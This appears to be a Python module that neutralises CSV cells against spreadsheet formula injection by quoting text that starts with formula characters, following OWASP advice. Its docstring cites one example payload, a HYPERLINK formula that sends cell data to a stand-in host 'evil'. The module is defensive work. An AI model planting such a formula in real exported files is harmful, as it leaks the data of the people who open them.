"""The cells of every CSV file the console writes (the audit export, the usage downloads), safe
to open in a spreadsheet.

A spreadsheet runs a cell that starts with `=`, `+`, `-` or `@` as a formula, and one that
starts with a tab or a carriage return may be taken as one too: a key named
`=HYPERLINK("http://evil/?"&A1)` would send a reader's data away when the file is opened (CSV
injection, OWASP). As OWASP advises, such a cell gets a single quote in front, which a
spreadsheet shows as text and does not run.
"""

from collections.abc import Iterable
from decimal import Decimal

# OWASP's characters that make a spreadsheet read a cell as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def neutralised(value):
    """The cell to write for `value`.

    Every text (`str`) cell that starts with a formula character is quoted, whatever column
    it is in: the text of a cell comes, directly or not, from someone (a key or team name, an
    email, a user agent, a model name, an action's label), and a rule by column would miss the
    next column added. A text cell that starts with the quote itself is quoted too, so that
    the rule can be undone without doubt: a reader who needs the exact text (the audit
    export's hash check) drops one leading quote from every cell that has one.

    Numbers are not text: an `int` or a `Decimal` that the code writes (a count, an amount,
    a negative adjustment such as -1.50) stays a number a spreadsheet can add up. A Decimal is
    written in plain notation (`0.000324`, never `3.24E-4`). Anything else (None, a bool) is
    left to csv.writer.
    """
    if isinstance(value, str):
        return QUOTE + value if value.startswith((*FORMULA_STARTS, QUOTE)) else value
    if isinstance(value, Decimal):
        return format(value, "f")
    return value


def neutralised_row(values: Iterable) -> list:
    """A row of cells, each `neutralised`: what a CSV writer of the console writes."""
    return [neutralised(value) for value in values]
